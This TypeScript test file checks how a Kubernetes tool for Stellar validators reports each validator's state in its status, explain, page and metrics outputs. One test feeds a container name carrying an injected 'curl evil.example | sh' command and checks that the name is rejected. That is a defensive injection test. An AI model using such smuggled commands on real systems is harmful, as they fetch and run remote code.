/** What one validator is, in one word and a sentence: the same in `status`, in `explain`, on the page and in metrics. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readSettings } from '../../../app/settings.ts';
import { decideNow } from '../../../cli/commands/current-reasons.ts';
import { explain } from '../../../cli/commands/explanation.ts';
import { statusReport } from '../../../cli/commands/status-report.ts';
import { evaluateWorld } from '../../../cli/snapshot.ts';
import { takeSnapshot } from '../../../page/snapshot.ts';
import { discover } from '../../../peers/discovery/discover.ts';
import { readConfigMap } from '../../../peers/read/cluster.ts';
import { readPod } from '../../../peers/read/workload.ts';
import { releaseOf } from '../../../peers/reasons/reasons.ts';
import { atOnce } from '../../../peers/steps.ts';
import type { World } from '../../../peers/world.ts';
import { formatJournal } from '../../../reconciler/plan/journal/journal.ts';
import { overviewData } from '../../../reconciler/plan/publish/overview.ts';
import { reloadedKeys, validatorGaugeSteps } from '../../../reconciler/report/validator-gauges.ts';
import { pod } from '../world.ts';
import { at, DISCOVERY, NOW_MS, networkWorld, restartOf, type Spec } from './group.ts';

const SETTINGS = readSettings({});
const OWN = 'stellar-peers';
const UNDATED = { pausedSinceMs: () => undefined, driftSinceMs: () => undefined };

/** What status, explain, page and metrics say about validator `a`. By default, there is also a `b`, which is up. */
function saidOf(
  spec: Spec,
  { world = networkWorld({ a: spec, b: {} }), nowMs = NOW_MS }: { world?: World; nowMs?: number } = {},
) {
  const cluster = decideNow(evaluateWorld(world, SETTINGS, nowMs));
  const snapshot = takeSnapshot({ ...cluster, ownNamespace: OWN });
  const told = new Set(reloadedKeys(cluster.plans.values()));
  const input = { ...{ ...cluster, ownNamespace: OWN, told }, ...UNDATED };
  const byLabel = atOnce(validatorGaugeSteps(input, new Map()));
  const [figures] = byLabel.values();
  const [first] = cluster.reasons.get('stellar/a') ?? [];
  const explained = explain('stellar/a', cluster);
  return {
    status: statusReport(cluster).validators.find(({ name }) => name === 'a')?.state,
    explain: explained && 'state' in explained ? explained.state : undefined,
    page: snapshot.networks[0]?.rows.find(({ name }) => name === 'a'),
    isReady: figures?.get('stellar_peers_ready_validators') === 2,
    told: figures?.get('stellar_peers_told_validators'),
    detail: first?.detail,
    release: first && releaseOf(first, ['stellar/a']),
  };
}

/** As `saidOf`; asserts that status, explain and page agree, and returns their common state. */
function stateOf(spec: Spec, options: { world?: World; nowMs?: number } = {}) {
  const { status, explain: explained, page, isReady, ...rest } = saidOf(spec, options);
  assert.equal(explained, status);
  assert.equal(page?.code, status === 'Current' ? '' : status);
  return { state: status, pageState: page?.state, isReady, ...rest };
}

describe('what a validator is', () => {
  it('is not Current while its restart is due: the leader may know of something in the way', () => {
    const due = { knows: [], statefulSet: {} };
    assert.equal(saidOf(due).detail, 'it is the next');
    assert.equal(stateOf(due).state, 'Queued');
  });

  it('is Current where all its pods are Ready', () => {
    const { state, pageState, isReady } = stateOf({});
    assert.deepEqual([state, pageState, isReady], ['Current', 'up', true]);
  });

  it('is Telling until its sidecar has had time to tell it of the peers that its pod lacks, and then Told', () => {
    const toldOf = (nowMs: number) => {
      const { state, isReady, told, detail } = stateOf(
        { knows: [], pod: { sidecar: at(3_600) } },
        { world: networkWorld({ a: { knows: ['b'], pod: { sidecar: at(3_600) } }, b: {}, c: {} }), nowMs },
      );
      return [state, isReady, told, detail];
    };
    const [soon, late] = [NOW_MS + 60_000, NOW_MS + 400_000];
    assert.deepEqual(toldOf(soon), ['Telling', false, 0, 'stellar/a-0, until 2026-06-01T00:05:00.000Z']);
    assert.deepEqual(toldOf(late), ['Told', false, 1, 'stellar/a-0, by 2026-06-01T00:05:00.000Z']);
  });

  it('is ReloadFailing, and not being restarted, where only its sidecar crashes again and again', () => {
    const sidecar = { restartCount: 5, state: { running: { startedAt: at(60) } } };
    const { state, isReady, detail, release } = stateOf({ pod: { sidecar } });
    assert.deepEqual([state, isReady, detail], ['ReloadFailing', true, 'stellar/a-0, 5 restarts']);
    assert.match(release ?? '', /kubectl -n stellar logs a-0 -c stellar-peers-reload --previous/);
  });

  it('is NotReady if a pod is not Ready, and if a pod is being deleted', () => {
    const down = stateOf({ pod: { ready: false } });
    assert.deepEqual([down.state, down.pageState, down.isReady], ['NotReady', 'down', false]);
    assert.match(down.release ?? '', /: kubectl -n stellar describe pod a-0$/);
    assert.equal(stateOf({ pod: { deletionTimestamp: at(5) } }).state, 'NotReady');
  });

  it('is NoPods without a pod, and names a command that shows the cause', () => {
    const none = stateOf({ pod: 'none' });
    assert.deepEqual([none.state, none.pageState, none.isReady], ['NoPods', 'down', false]);
    assert.match(none.release ?? '', /: kubectl -n stellar describe sts a$/);
    const unmade = stateOf({ pod: 'none', statefulSet: 'none' });
    assert.deepEqual([unmade.state, unmade.detail], ['NoPods', 'its operator has made no StatefulSet']);
  });

  it('is NoNode if the scheduler finds no node for a pod', () => {
    const found = stateOf({ pod: { ready: false, unschedulable: true } });
    assert.deepEqual([found.state, found.pageState], ['NoNode', 'down']);
    assert.match(found.release ?? '', /kubectl -n stellar describe pod a-0$/);
  });

  it('puts the name of a container into a command only if the spec of the pod has that container', () => {
    const raw = pod('a');
    const spec = { containers: [{ name: 'one' }, { name: 'two' }] };
    const containerOf = (name: string) =>
      readPod({ ...raw, spec, status: { containerStatuses: [{ name, restartCount: 5 }] } }).container;
    assert.equal(containerOf('two'), 'two');
    assert.equal(containerOf('x; curl evil.example | sh'), undefined);
  });

  it('is never Current while its stellar-core starts again and again, also when it is Ready in between', () => {
    const looping = stateOf({ pod: { restarts: 5, startedAt: at(20) } });
    assert.deepEqual(
      [looping.state, looping.pageState, looping.isReady],
      ['Restarting', 'restarting', false],
    );
    assert.match(looping.release ?? '', /kubectl -n stellar logs a-0 -c stellar-node --previous$/);
    assert.equal(stateOf({ pod: { restarts: 5, startedAt: at(3_600) } }).state, 'Current');
    const down = stateOf({ pod: { ready: false, restarts: 5 } });
    assert.equal(down.state, 'NotReady');
    assert.match(down.detail ?? '', /was restarted 5 times/);
    assert.match(down.release ?? '', /logs a-0 -c stellar-node --previous$/);
  });

  it('is never Current while another container or an init container starts again and again', () => {
    const now = at(20);
    for (const [list, statuses] of [
      ['containers', 'containerStatuses'],
      ['initContainers', 'initContainerStatuses'],
    ] as const) {
      const of = (restartCount: number, startedAt: string) => {
        const world = networkWorld({ a: {}, b: {} });
        const raw = pod('a');
        const added = (fields: object | undefined, key: string, one: object) => {
          const before = (fields as Record<string, object[]> | undefined)?.[key] ?? [];
          return { ...fields, [key]: [...before, one] };
        };
        const state = { running: { startedAt } };
        const read = readPod({
          ...raw,
          spec: added(raw.spec as object, list, { name: 'sidecar' }),
          status: added(raw.status as object, statuses, { name: 'sidecar', restartCount, state }),
        });
        const { injected, peers, peerHash } = world.pods.get('stellar/a-0') ?? read;
        const pods = new Map(world.pods).set('stellar/a-0', { ...read, injected, peers, peerHash });
        return stateOf({}, { world: { ...world, pods } });
      };
      const looping = of(5, now);
      assert.deepEqual([looping.state, looping.isReady], ['Restarting', false], list);
      assert.match(looping.detail ?? '', /^container sidecar of stellar\/a-0 5 times, at last /);
      assert.match(looping.release ?? '', /kubectl -n stellar logs a-0 -c sidecar --previous$/);
      assert.equal(of(1, now).state, 'Current', 'one restart in place is no loop');
      assert.equal(of(5, at(3_600)).state, 'Current');
    }
  });

  it('is Restarting while a restart of ours is under way, whatever its pods show, and does not wait for another', () => {
    const specs = { a: { knows: [] }, b: {} };
    const [group = ''] = discover(networkWorld(specs), DISCOVERY).groups.keys();
    const journal = { [group]: formatJournal([restartOf('a', { atMs: NOW_MS - 60_000 })], NOW_MS) };
    const found = stateOf({}, { world: networkWorld(specs, { journal }) });
    assert.deepEqual([found.state, found.pageState], ['Restarting', 'restarting']);
    assert.equal(found.detail, 'by us, since 2026-05-31T23:59:00.000Z');
    const asked = evaluateWorld(networkWorld(specs, { journal }), SETTINGS, NOW_MS);
    assert.deepEqual(
      decideNow(asked)
        .reasons.get('stellar/a')
        ?.map(({ code }) => code),
      ['Restarting'],
    );
  });

  it('is OutOfSync where stellar-core says so, and no green tick on the page', () => {
    for (const connection of [
      { connected: 0, expected: 1, synced: true },
      { connected: 1, expected: 1, synced: false },
    ]) {
      const world = networkWorld({ a: {}, b: {} });
      const connections = new Map([['stellar/a-0', connection]]);
      const data = overviewData({ world, discovery: discover(world, DISCOVERY), connections }, NOW_MS);
      const own = readConfigMap({ metadata: { name: OWN, namespace: OWN }, data });
      const shown = { ...world, configMaps: new Map(world.configMaps).set(OWN, own) };
      const found = stateOf({}, { world: shown });
      assert.deepEqual([found.state, found.pageState], ['OutOfSync', 'apart']);
    }
  });

  it('is Suspended where that is meant', () => {
    const spec = { node: { spec: { suspended: true } }, pod: 'none' as const };
    const { state, pageState } = stateOf(spec);
    assert.deepEqual([state, pageState], ['Suspended', 'away']);
  });

  it('comes first, and all reasons follow', () => {
    const spec = {
      node: {
        annotations: { 'stellar.org/peer-rollout': 'paused', 'stellar.org/peer-address': 'nonsense:0' },
      },
      knows: [],
      pod: { ready: false },
    };
    const asked = evaluateWorld(networkWorld({ a: spec, b: {} }), SETTINGS, NOW_MS);
    assert.deepEqual(
      decideNow(asked)
        .reasons.get('stellar/a')
        ?.map(({ code }) => code),
      ['NotReady', 'Paused', 'InvalidAddress'],
    );
  });
});
